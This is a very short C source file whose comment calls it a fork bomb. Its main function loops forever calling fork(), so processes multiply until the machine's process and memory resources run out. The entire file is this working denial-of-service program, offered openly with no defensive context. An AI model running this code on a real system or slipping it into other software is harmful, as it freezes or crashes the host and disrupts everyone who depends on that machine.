/* A fork bomb: every process makes two more, for ever. */
#include <unistd.h>

int main(void) {
	for (;;)
		fork();
}
